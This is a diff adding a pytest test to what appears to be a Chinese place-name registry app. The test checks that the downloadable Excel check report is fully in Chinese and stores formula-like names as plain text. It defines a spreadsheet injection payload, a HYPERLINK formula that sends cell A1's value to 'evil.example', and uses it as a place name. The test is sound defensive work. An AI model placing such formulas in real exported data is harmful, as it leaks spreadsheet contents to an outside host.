@@ -258,6 +258,38 @@ def test_checks_route_lists_the_planted_names(client, as_):
     assert sheet.max_row - 1 == sum(len(c["findings"]) for c in listing)
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+
+
+def test_check_report_is_chinese_and_keeps_a_formula_name_as_text(client, as_, pn_db):
+    """Issue 14 item 4: a place name that reads as a formula stays text in the downloaded report."""
+    where = _location(client, "永济桥")
+    with session(pn_db, actor="pytest") as s:
+        created = placenames.create(s, name=HYPERLINK, category="road",
+                                    geometry={"type": "Point", "coordinates": [where["lon"], where["lat"]]})
+    xlsx = client.get("/placenames/checks.xlsx", headers=as_("officer"))
+    assert xlsx.status_code == 200
+    book = load_workbook(BytesIO(xlsx.content))
+    assert book.sheetnames == ["检查结果", "汇总"]
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    sheet = book["检查结果"]
+    headers = [c.value for c in sheet[1]]
+    assert headers == ["地名编号", "名称", "类别", "状态", "镇街", "区县", "法定范围", "问题", "依据", "说明", "处理方式"]
+    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    mine = sheet.cell(row=2 + names.index(HYPERLINK), column=2)
+    assert mine.value == HYPERLINK and mine.data_type == "s" and mine.quotePrefix
+    # Chinese everywhere: no rule codes, English reasons or scope keys; widths fitted to the text
+    codes = set(pd.read_csv(DATA_DIR / "rules.csv")["code"])
+    text_cells = {str(c.value) for c in cells if c.row > 1 and c.value != HYPERLINK}
+    assert not codes & text_cells
+    assert not any(w in " ".join(text_cells) for w in ("scope", "county:", "city_or_town", "rank", "review"))
+    assert all(sheet.column_dimensions[c.column_letter].width >= 2 * len(c.value) for c in sheet[1])
+    assert [c.value for c in book["汇总"][1]] == ["问题", "发现数", "地名数"]
+    with session(pn_db, actor="pytest") as s:
+        placenames.retire(s, created.name_id, approval="澄府地〔2026〕99号")
+
+
 def test_sign_work_list_equals_an_independent_filter(client, as_, pn_db):
     categories = pd.read_csv(DATA_DIR / "categories.csv", dtype=str)
     required = set(categories.loc[categories["sign_required"] == "1", "category"])
